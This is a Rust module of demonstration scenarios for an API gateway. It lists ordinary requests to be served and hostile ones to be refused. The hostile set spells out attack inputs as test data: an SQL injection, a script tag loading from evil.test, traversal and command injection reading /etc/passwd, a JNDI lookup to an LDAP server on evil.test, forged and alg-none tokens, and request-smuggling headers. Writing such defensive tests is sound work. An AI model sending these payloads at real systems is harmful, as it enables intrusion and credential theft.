//! The requests of the demonstration: what visitors and attackers send, and how the gateway is to answer.

use std::net::{IpAddr, Ipv4Addr};

use serde_json::json;

use super::{credentials::Credentials, issuer::unsecured_token};

/// Where the ordinary requests come from.
const VISITOR: IpAddr = IpAddr::V4(Ipv4Addr::LOCALHOST);
/// A loopback address that the demonstration blocks.
pub(crate) const BLOCKED: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 66));
/// A loopback address from which somebody guesses passwords.
const GUESSER: IpAddr = IpAddr::V4(Ipv4Addr::new(127, 0, 0, 77));
/// How many passwords an address may guess in a day.
pub(crate) const GUESSES: u32 = 3;

/// One request and its expected answer.
pub(crate) struct Scenario {
    /// What it shows.
    pub(crate) title: &'static str,
    /// For the report; the bytes say the same.
    pub(crate) method: &'static str,
    /// For the report.
    pub(crate) path: &'static str,
    /// What is sent.
    pub(crate) bytes: Vec<u8>,
    /// From which address.
    pub(crate) source: IpAddr,
    /// The status that the gateway is to answer with.
    pub(crate) status: u16,
    /// The code of the refusal, if it is to refuse.
    pub(crate) code: Option<&'static str>,
}

/// Ordinary requests, all served.
pub(crate) fn ordinary(credentials: &Credentials) -> Vec<Scenario> {
    let Credentials { user, admin, api_key, .. } = credentials;
    vec![
        Scenario::get("public page", "/", "").served(200),
        Scenario::get("public catalogue", "/products", "").served(200),
        Scenario::get("valid token", "/orders", &bearer(user)).served(200),
        Scenario::post("order placed", "/orders", &bearer(user), r#"{"product":"lantern"}"#).served(201),
        Scenario::get("API key of a partner", "/orders", &format!("x-api-key: {api_key}\r\n")).served(200),
        Scenario::get("one product", "/products/rope", "").served(200),
        Scenario::get("administrator with two factors", "/admin/report", &bearer(admin)).served(200),
        Scenario::preflight("CORS preflight", "https://shop.test").served(204),
    ]
}

/// Hostile or mistaken requests, all refused.
pub(crate) fn hostile(credentials: &Credentials) -> Vec<Scenario> {
    let mut scenarios = stolen_and_forged(credentials);
    scenarios.extend(evasive(credentials));
    scenarios.extend(injected(credentials));
    scenarios.extend(smuggled());
    scenarios
}

fn stolen_and_forged(credentials: &Credentials) -> Vec<Scenario> {
    let Credentials { issuer, stranger, user, admin_with_password, api_key, .. } = credentials;
    let invalid = |scenario: Scenario| scenario.refused(401, "invalid_authentication_token");
    let expired = issuer.token("ada", &json!({ "exp": 1_700_000_000, "permissions": ["*"] }));
    let elsewhere = issuer.token("ada", &json!({ "iss": "https://id.evil.test", "permissions": ["*"] }));
    let other_audience = issuer.token("ada", &json!({ "aud": "payroll", "permissions": ["*"] }));
    let forged = stranger.token("ada", &json!({ "permissions": ["*"] }));
    let guessed = format!("x-api-key: {}0000\r\n", api_key.get(..api_key.len() - 4).unwrap_or_default());
    vec![
        Scenario::get("no credential", "/orders", "").refused(401, "missing_authentication_token"),
        invalid(Scenario::get("expired token", "/orders", &bearer(&expired))),
        invalid(Scenario::get("token of another issuer", "/orders", &bearer(&elsewhere))),
        invalid(Scenario::get("token for another audience", "/orders", &bearer(&other_audience))),
        invalid(Scenario::get("token signed with another key", "/orders", &bearer(&forged))),
        invalid(Scenario::get("token with alg none", "/orders", &bearer(&unsecured_token("ada")))),
        invalid(Scenario::get("guessed API key", "/orders", &guessed)),
        Scenario::get("missing permission", "/customers", &bearer(user)).refused(403, "permission_denied"),
        Scenario::get("administrator with a password only", "/admin/report", &bearer(admin_with_password))
            .refused(403, "mfa_required"),
        Scenario::get("blocked address", "/products", "").from(BLOCKED).refused(403, "address_blocked"),
        guess().refused(429, "rate_limit_exceeded"),
    ]
}

/// One more password guessed. As many as [`GUESSES`] reach the shop, which says that they are wrong.
pub(crate) fn guess() -> Scenario {
    Scenario::post("one guess too many", "/login", "", r#"{"user":"ada","password":"letmein"}"#).from(GUESSER)
}

/// What the firewall is for.
fn injected(credentials: &Credentials) -> Vec<Scenario> {
    let refused = |scenario: Scenario| scenario.refused(403, "suspicious_activity_detected");
    let script = r#"{"product":"<script src=//evil.test/x.js></script>"}"#;
    vec![
        refused(Scenario::get("SQL injection", "/products?id=1%27%20OR%20%271%27=%271", "")),
        refused(Scenario::post("script in an order", "/orders", &bearer(&credentials.user), script)),
        refused(Scenario::get("file outside", "/products?page=../../../../etc/passwd", "")),
        refused(Scenario::get("command in a parameter", "/products?sort=;cat%20/etc/passwd", "")),
        refused(Scenario::get("look-up in a header", "/products", "Referer: ${jndi:ldap://evil.test/a}\r\n")),
    ]
}

fn evasive(credentials: &Credentials) -> Vec<Scenario> {
    let user = bearer(&credentials.user);
    vec![
        Scenario::get("dot segments around a route", "/products/%2e%2e/admin/report", "")
            .refused(401, "missing_authentication_token"),
        Scenario::get("path parameter around a route", "/products/..;/customers", &user)
            .refused(403, "permission_denied"),
        Scenario::get("encoded slash", "/products/..%2fadmin/report", "").refused(400, "malformed_request"),
        Scenario::get("identity header from outside", "/admin/report", "x-user-id: root\r\n")
            .refused(401, "missing_authentication_token"),
        Scenario::get("path that no route serves", "/.env", "").refused(404, "route_not_found"),
        Scenario::new("method that no route serves", "TRACE", "/products", "", "")
            .refused(405, "method_not_allowed"),
        Scenario::preflight("preflight from elsewhere", "https://evil.test")
            .refused(403, "cross_origin_refused"),
    ]
}

fn smuggled() -> Vec<Scenario> {
    let malformed = |scenario: Scenario| scenario.refused(400, "malformed_request");
    let framing =
        |title, headers: &str| malformed(Scenario::new(title, "POST", "/echo", headers, "0\r\n\r\n"));
    vec![
        framing("both kinds of framing", "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n"),
        framing("two lengths", "Content-Length: 5\r\nContent-Length: 6\r\n"),
        framing("disguised transfer coding", "Transfer-Encoding: xchunked\r\n"),
        malformed(Scenario::get("second host", "/products", "Host: admin.shop.test\r\n")),
        malformed(Scenario::raw(
            "bare line feeds",
            "GET",
            "/products",
            "GET /products HTTP/1.1\nHost: shop\n\n",
        )),
        malformed(Scenario::get("folded header", "/products", "x-a: 1\r\n Transfer-Encoding: chunked\r\n")),
    ]
}

impl Scenario {
    fn new(title: &'static str, method: &'static str, path: &'static str, headers: &str, body: &str) -> Self {
        let text = format!(
            "{method} {path} HTTP/1.1\r\nHost: shop.test\r\nUser-Agent: bartizan-demo\r\n{headers}Connection: close\r\n\r\n\
             {body}"
        );
        Self::raw(title, method, path, &text)
    }

    fn raw(title: &'static str, method: &'static str, path: &'static str, text: &str) -> Self {
        Self { title, method, path, bytes: text.into(), source: VISITOR, status: 0, code: None }
    }

    fn get(title: &'static str, path: &'static str, headers: &str) -> Self {
        Self::new(title, "GET", path, headers, "")
    }

    fn post(title: &'static str, path: &'static str, headers: &str, body: &str) -> Self {
        let length = body.len();
        let headers = format!("{headers}Content-Type: application/json\r\nContent-Length: {length}\r\n");
        Self::new(title, "POST", path, &headers, body)
    }

    fn preflight(title: &'static str, origin: &str) -> Self {
        let headers = format!(
            "Origin: {origin}\r\nAccess-Control-Request-Method: POST\r\n\
             Access-Control-Request-Headers: authorization\r\n"
        );
        Self::new(title, "OPTIONS", "/orders", &headers, "")
    }

    fn from(self, source: IpAddr) -> Self {
        Self { source, ..self }
    }

    fn served(self, status: u16) -> Self {
        Self { status, ..self }
    }

    fn refused(self, status: u16, code: &'static str) -> Self {
        Self { status, code: Some(code), ..self }
    }
}

fn bearer(token: &str) -> String {
    format!("Authorization: Bearer {token}\r\n")
}
